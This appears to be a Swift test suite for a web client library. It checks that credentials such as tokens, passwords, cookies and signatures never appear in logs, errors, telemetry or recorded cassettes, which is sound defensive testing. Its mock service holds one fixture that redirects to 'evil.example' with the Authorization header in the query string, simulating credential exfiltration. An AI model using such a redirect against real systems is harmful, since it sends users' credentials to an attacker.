import Foundation
import Platform
import TestSupport
import Testing

@testable import WebTransport

@Suite("No secret is written anywhere")
struct SecretTests {
    /// A service that repeats each secret it gets, and gives others.
    private func service(_ secrets: [String]) -> ScriptedTransport {
        let failures = LockedBox(0)
        return ScriptedTransport { request, _ in
            let echo =
                "\(request.url) \(request.headers.fields.map { "\($0.name)=\($0.value)" }) \(String(decoding: request.body ?? [], as: UTF8.self))"
            if request.url.contains("/token") {
                return .text(#"{"access_token": "\#(secrets[0])", "refresh_token": "\#(secrets[1])", "expires_in": "60"}"#)
            }
            if request.url.contains("/csrf") { return WebResponse(status: 200, headers: ["Set-Cookie": "csrf=\(secrets[2]); Path=/"]) }
            if request.url.contains("/login") { return WebResponse(status: 200, headers: ["Set-Cookie": "sid=\(secrets[3]); Path=/"]) }
            if request.url.contains("/error") { throw TransportError(.lost, request: "GET \(request.url)", detail: echo) }
            if request.url.contains("/strange") { throw Strange(text: echo) }
            if request.url.contains("/away") {
                return .redirect(302, "https://evil.example/?q=" + FormEncoding.encode(request.headers["Authorization"] ?? ""))
            }
            let number = failures.withLock { number in
                number += 1
                return number
            }
            return .text(
                echo, status: number % 3 == 0 ? 200 : number % 3 == 1 ? 503 : 401,
                headers: ["X-Echo": echo, "Link": "<\(request.url)>; rel=next"])
        }
    }

    private struct Strange: Error {
        var text: String
    }

    @Test("Of all secrets that a client uses, none is in a line of the log, an error, a record, a metric, a span or a cassette")
    func nowhere() async throws {
        let given = (0..<8).map { "Zebra/\($0) &ä\"\\" }
        let secrets = (0..<4).map { "Giraffe-\($0)" }
        let authentications: [Authentication] = [
            .bearer(.value(given[0])), .basic(user: "anna", password: .value(given[1])),
            .header(name: "X-Own-Key", value: .value(given[2])),
            .query(name: "ownkey", value: .value(given[3])),
            .oauth2(
                OAuth2(
                    tokenURL: base + "/token", grant: .refreshToken(.value(given[4])), clientID: "me", clientSecret: .value(given[5]),
                    clientPlace: .body)),
            .oauth2(OAuth2(tokenURL: base + "/token", clientID: "me", clientSecret: .value(given[5]))),
            .all([
                .session(LoginSession(url: base + "/login", secretFields: ["word": .value(given[6])], encoding: .json)),
                .csrf(CSRFToken(url: base + "/csrf", source: .cookie("csrf"))),
            ]), .signing { $0.headers["X-Own-Signature"] = given[7] },
        ]
        let log = CapturedLog()
        let records = LockedBox<[String]>([])
        var written: [String] = []
        #if WebBackend
        let telemetry = CapturedTelemetry.shared
        #endif
        for authentication in authentications {
            let recorder = RecordingTransport(service(secrets), removing: SecretRemoval(headers: ["X-Own-Signature"]))
            let client = try makeClient(recorder) { options in
                options.authentication = authentication
                options.logger = log.logger
                options.secretHeaders = ["X-Own-Signature"]
                options.observer = { record in records.withLock { $0.append("\(record) \(String(reflecting: record))") } }
            }
            for path in ["/a", "/error", "/strange", "/away"] {
                do {
                    _ = try await client.send(
                        WebRequest(.post, base + path, headers: ["Authorization": "Basic Lion-1"], label: "Album.save"))
                } catch {
                    written.append("\(error) \(String(reflecting: error)) \(error.localizedDescription)")
                }
            }
            // Of three requests in a row the service refuses one, which is sent again: nobody else's may have been yet.
            for _ in 0..<3 { _ = try? await client.send(WebRequest(.get, base + "/a", label: "Album.list")) }
            written.append(String(decoding: try recorder.cassette.bytes(), as: UTF8.self))
        }
        let kept = log.lines + records.withLock { $0 }
        #expect(kept.count > 50)
        written += kept
        #if WebBackend
        let measured = telemetry.lines
        #expect(measured.contains { $0.hasPrefix("web_client_requests") && $0.contains("Album.save") && $0.contains("api.example.com") })
        #expect(measured.contains { $0.hasPrefix("web_client_duration") })
        #expect(measured.contains { $0.hasPrefix("web_client_retries") })
        #expect(
            measured.contains {
                $0.hasPrefix("span Album.save client") && $0.contains("http.response.status_code") && $0.contains("url.full")
            })
        written += measured
        #endif
        var forms =
            given.flatMap { [$0, FormEncoding.encode($0), Data($0.utf8).base64EncodedString()] } + given.map { String($0.prefix(7)) }
        forms += secrets + ["Lion-1", Data("anna:\(given[1])".utf8).base64EncodedString(), "Zebra%2F", "Zebra\\/", "Giraffe"]
        for text in written {
            for form in forms where text.contains(form) { Issue.record("\(form) is in \(text)") }
        }
    }

    @Test("A request and its headers are printed without credentials")
    func printing() {
        let request = WebRequest(
            .post, base + "/a?token=Zebra", headers: ["authorization": "Zebra", "Set-Cookie": "Zebra", "Accept": "a"], body: [1],
            label: "Album.save")
        var dumped = ""
        dump(request, to: &dumped)
        dump(request.headers, to: &dumped)
        #expect(!"\(request) \(String(reflecting: request)) \(request.headers.fields) \(dumped)".contains("Zebra"))
        expect(
            request.description,
            equals: "POST \(base)/a?token=REMOVED [authorization: REMOVED, Set-Cookie: REMOVED, Accept: a] 1 bytes [Album.save]")
    }

    @Test("A record of a request says what it took, on one line")
    func record() async throws {
        let time = VirtualTime()
        let kept = LockedBox<RequestRecord?>(nil)
        let transport = ScriptedTransport { _, index in
            time.advance(0.25)
            return index == 0 ? .text("", status: 503) : .text("12345")
        }
        let request = WebRequest(.put, base + "/a?token=Zebra", body: [1, 2, 3], label: "Album.save")
        _ = try await makeClient(transport, time: time).send(request) { record in kept.withLock { $0 = record } }
        let record = try #require(kept.withLock { $0 })
        expect(
            record.description,
            equals: "PUT \(base)/a?token=REMOVED 200 in 875 ms, 5 bytes, 6 bytes sent, 2 tries, 375 ms of it waiting [Album.save]")
    }

    #if WebBackend
    @Test("Requests carry the headers of the trace to which they belong")
    func propagation() async throws {
        _ = CapturedTelemetry.shared
        let transport = ScriptedTransport(.text("yes"))
        _ = try await makeClient(transport).send(WebRequest(.get, base))
        expect(transport.requests.first?.headers["traceparent"], equals: "00-trace-01")
    }
    #endif
}
